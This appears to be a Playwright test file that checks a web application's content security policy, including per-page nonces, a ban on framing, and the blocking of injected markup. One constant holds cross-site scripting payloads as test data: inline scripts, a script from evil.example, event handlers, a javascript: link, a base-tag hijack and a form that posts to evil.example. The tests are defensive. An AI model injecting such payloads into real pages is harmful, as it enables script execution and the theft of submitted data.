/** The content security policy, as Chromium enforces it on the production build. */
import type { APIRequestContext, Browser, Page } from "@playwright/test"
import { expect, test } from "./fixtures/test"

const pagesForEverybody = ["/", "/sign-in", "/docs", "/docs/patterns", "/docs/errors", "/no-such-page.png"]
const pagesOfAda = ["/dashboard", "/dashboard/team/red", "/dashboard/admin", "/dashboard/team/no-such-team"]

const STRICT = new RegExp(
  "^default-src 'self'; script-src 'self' 'nonce-([A-Za-z0-9+/]{22}==)' 'strict-dynamic'; " +
    "style-src 'self' 'unsafe-inline'; img-src 'self' data:; font-src 'self'; connect-src 'self'; " +
    "object-src 'none'; base-uri 'none'; form-action 'self'; frame-ancestors 'none'$",
)

/** Asks for a page, checks its policy and its scripts, and answers the nonce. */
async function nonceOf(path: string, request: APIRequestContext): Promise<string> {
  const answer = await request.get(path)
  const policy = answer.headers()["content-security-policy"] ?? ""
  expect(policy, path).toMatch(STRICT)
  const nonce = STRICT.exec(policy)?.[1] ?? ""
  const scripts = (await answer.text()).match(/<script\b[^>]*>/g) ?? []
  expect(scripts.length, path).toBeGreaterThan(0)
  for (const script of scripts) expect(script, path).toContain(`nonce="${nonce}"`)
  return nonce
}

test("every page has the strict policy, a nonce of its own, and no script without it", async ({
  requestOf,
  request,
}) => {
  const ada = await requestOf("ada")
  const asked = [
    ...pagesForEverybody.map((path) => ({ path, request })),
    ...pagesOfAda.map((path) => ({ path, request: ada })),
  ]
  const nonces: string[] = []
  for (const one of [...asked, ...asked]) nonces.push(await nonceOf(one.path, one.request))
  expect(new Set(nonces).size).toBe(nonces.length)
})

test("a nonce that a client asks for is not used", async ({ request }) => {
  const headers = { "content-security-policy": "script-src 'nonce-Y2hvc2Vu'" }
  expect(await (await request.get("/", { headers })).text()).not.toContain("Y2hvc2Vu")
})

test("answers that are data may do nothing, should they ever be shown as a page", async ({ request }) => {
  for (const path of ["/api/realtime", "/api/channels/history", "/api/auth/session", "/api/no-such-route"]) {
    const { "content-security-policy": policy } = (await request.get(path)).headers()
    expect(policy, path).toBe("default-src 'none'; frame-ancestors 'none'")
  }
})

/** Markup that an attacker might get into a page. Whatever of it runs says so. */
const INJECTED = `
  <script>report("ran: inline script")</script>
  <script nonce="Z3Vlc3NlZA==">report("ran: script with a guessed nonce")</script>
  <script src="https://evil.example/steal.js"></script>
  <img src="/no-such-image" onerror="report('ran: event handler')">
  <svg onload="report('ran: handler of svg')"></svg>
  <iframe srcdoc="<script>parent.report('ran: script of a frame')</script>"></iframe>
  <object data="data:text/html,<script>top.report('ran: object')</script>"></object>
  <base href="https://evil.example/">
  <a id="lure" href="javascript:report('ran: link')">Read more</a>
  <form action="https://evil.example/collect"><button id="send">Send</button></form>`

/** Opens a page in a context that none of our fixtures watches, and answers what it reports, as it comes. */
async function openReporting(browser: Browser, url: string, change: (page: Page) => Promise<void>) {
  const page = await (await browser.newContext()).newPage()
  const reports: string[] = []
  await page.exposeFunction("report", (report: string) => void reports.push(report))
  await page.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) => {
      Reflect.get(window, "report")?.(blockedURI === "eval" ? "eval" : effectiveDirective)
    })
  })
  await change(page)
  await page.goto(url)
  return { page, reports }
}

test("injected scripts, handlers, links, frames and forms do nothing", async ({ browser, baseURL }) => {
  const { page, reports } = await openReporting(browser, `${baseURL}/sign-in`, async (opened) => {
    // Hydrating would take the strange markup out again, and the policy has to hold until then.
    await opened.route("**/_next/static/**/*.js", (route) => route.abort())
    await opened.route("**/sign-in", async (route) => {
      const response = await route.fetch()
      const body = (await response.text()).replace("</main>", `${INJECTED}</main>`)
      await route.fulfill({ response, body })
    })
  })
  await page.locator("#lure").click()
  // A click waits for the navigation that it began, and this one never comes.
  void page
    .locator("#send")
    .click()
    .catch(() => undefined)
  const directives = ["base-uri", "form-action", "object-src", "script-src-attr", "script-src-elem"]
  await expect.poll(() => [...new Set(reports)].sort()).toEqual(directives)
  // The script and that of the guessed nonce, the one of evil.example, the frame's, the link.
  expect(reports.filter((report) => report === "script-src-elem").length).toBeGreaterThanOrEqual(4)
  expect(page.url()).toBe(`${baseURL}/sign-in`)
  await page.context().close()
})

test("text does not become code", async ({ browser, baseURL }) => {
  const { page, reports } = await openReporting(browser, `${baseURL}/sign-in`, async () => {})
  await page.evaluate(() => void setTimeout("report('ran: text')", 0))
  await expect.poll(() => reports).toEqual(["eval"])
  await page.context().close()
})

test("no page can be framed, by another site or by our own", async ({ browser, baseURL }) => {
  const context = await browser.newContext()
  const page = await context.newPage()
  for (const framer of ["http://framer.example/", `${baseURL}/framer`]) {
    const body = `<iframe src="${baseURL}/sign-in"></iframe>`
    await page.route(framer, (route) => route.fulfill({ contentType: "text/html", body }))
    await page.goto(framer)
    const frame = page.frames().find((one) => one !== page.mainFrame())
    await expect.poll(() => frame?.url(), framer).toMatch(/^chrome-error:/)
    await expect(page.frameLocator("iframe").getByRole("heading", { name: "Sign in" })).toHaveCount(0)
  }
  await context.close()
})

test("a click before the page has its scripts is replayed under the policy", async ({ page }) => {
  let release = () => {}
  const held = new Promise<void>((resolve) => {
    release = resolve
  })
  await page.route("**/_next/static/**/*.js", async (route) => {
    await held
    await route.continue()
  })
  await page.goto("/sign-in", { waitUntil: "commit" })
  await page
    .getByRole("button", { name: "Sign in as Ben Castillo", exact: true })
    .click({ noWaitAfter: true })
  await expect(page).toHaveURL(/\/sign-in$/)
  release()
  await expect(page).toHaveURL(/\/dashboard$/)
})

test("a visit from page to page, with chat, toasts and the documentation, violates nothing", async ({
  person,
}) => {
  const [ben, bea] = [await person("ben", "/dashboard/team/red"), await person("bea")]
  await expect(ben.page.getByRole("status", { name: "Connection" })).toHaveText("Live")
  await expect(bea.page.getByRole("status", { name: "Connection" })).toHaveText("Live")
  await ben.page.getByRole("link", { name: "You", exact: true }).click()
  await ben.page.getByRole("button", { name: "Wave at Bea Lindqvist" }).click()
  await expect(bea.page.locator("[data-sonner-toast]").first()).toBeVisible()
  await bea.page.goto("/docs/patterns")
  await bea.context.grantPermissions(["clipboard-read", "clipboard-write"])
  await bea.page.locator("article details summary").first().click()
  const copy = bea.page.locator("button[data-copy]").first()
  await copy.click()
  await expect(copy).toHaveText("Copied")
  await bea.page.getByRole("link", { name: "Docs", exact: true }).click()
  await expect(bea.page.getByRole("heading", { name: "Documentation" })).toBeVisible()
  await bea.page.goBack()
  await expect(bea.page.locator("article")).toBeVisible()
})
